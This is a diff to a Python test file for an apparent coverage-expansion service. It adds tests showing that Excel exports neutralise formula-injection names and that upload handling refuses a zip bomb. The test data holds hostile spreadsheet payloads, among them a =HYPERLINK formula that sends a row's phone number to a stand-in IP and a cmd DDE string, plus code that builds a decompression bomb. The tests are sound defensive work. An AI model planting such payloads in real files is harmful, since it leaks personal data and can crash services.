@@ -5,12 +5,13 @@ service, the API and the field teams' workbook."""
 from __future__ import annotations
 
 import io
+import zipfile
 
 import openpyxl
 import pytest
 from sqlalchemy import select
 
-from flexcover.coverage import expansion, service
+from flexcover.coverage import expansion, service, workbook
 from flexcover.coverage.models import ComparisonRun, ExpansionTask
 from flexcover.coverage.problems import TaskClosed, TaskOutcomeInvalid, WorkbookInvalid
 from flexcover.coverage.repository import TaskFilter
@@ -27,7 +28,12 @@ def officer(region: str = YUZHONG, role: str = "district_officer") -> Actor:
 
 
 def finding(
-    key: str, *, district: str = YUZHONG, klass: str = "never_insured", tags=()
+    key: str,
+    *,
+    district: str = YUZHONG,
+    klass: str = "never_insured",
+    tags=(),
+    name: str | None = None,
 ) -> expansion.Finding:
     return expansion.Finding(
         kind="person",
@@ -42,7 +48,7 @@ def finding(
         else 3,
         action=expansion.ACTIONS[klass],
         channel="phone",
-        name=f"人{key}",
+        name=name or f"人{key}",
         phone="13800138000",
         birth_date="1985-06-01",
         details={"evidence": []},
@@ -237,3 +243,53 @@ def test_one_wrong_row_refuses_the_whole_workbook(database, session):
 def test_a_file_that_is_not_a_workbook_is_refused(database):
     with database.sessions() as work, pytest.raises(WorkbookInvalid):
         service.import_outcomes(work, officer(), b"not excel")
+
+
+def test_names_that_look_like_formulas_leave_the_workbook_as_text(database, session):
+    """A name in a departmental file such as =HYPERLINK(...) must not become a live formula in
+    the officer's Excel (it could send the row's phone number away)."""
+    hostile = {
+        "a": '=HYPERLINK("http://203.0.113.9/?p="&K2,"点击")',
+        "b": "+cmd|' /C calc'!A0",
+        "c": "-2+3",
+        "d": "@SUM(1)",
+    }
+    run_with(database, [finding(key, name=name) for key, name in hostile.items()])
+    with database.unit_of_work() as work:
+        data = service.export_tasks(work, officer(), TaskFilter(region=YUZHONG), actions={})
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["扩面任务"]
+    cells = {row[9].value: row[9] for row in sheet.iter_rows(min_row=2)}
+    assert set(cells) == set(hostile.values())  # kept exactly as given ...
+    for cell in cells.values():
+        assert cell.data_type == "s"  # ... as text, never a formula
+        assert cell.quotePrefix
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
+
+
+def test_a_workbook_that_inflates_past_its_bound_is_refused_before_parsing(database):
+    """588 KB of one repeated character inflates to hundreds of MB: refused from the zip's own
+    directory, before openpyxl sees it."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as package:
+        package.writestr("[Content_Types].xml", "<Types/>")
+        with package.open("xl/sharedStrings.xml", "w") as part:
+            chunk = b"A" * (1024 * 1024)
+            for _ in range(workbook.MAX_INFLATED_BYTES // len(chunk) + 1):
+                part.write(chunk)
+    data = out.getvalue()
+    assert len(data) < 1024 * 1024
+    with database.sessions() as work, pytest.raises(WorkbookInvalid) as refused:
+        service.import_outcomes(work, officer(), data)
+    assert "inflate" in refused.value.message("en")
+
+
+def test_workbook_uploads_are_parsed_off_the_event_loop():
+    """Both import routes are plain functions, which FastAPI runs in its thread pool: a large
+    workbook no longer freezes every other request while it is parsed."""
+    import inspect
+
+    from flexcover.coverage import api, pages
+
+    assert not inspect.iscoroutinefunction(api.import_outcomes)
+    assert not inspect.iscoroutinefunction(pages.import_outcomes)
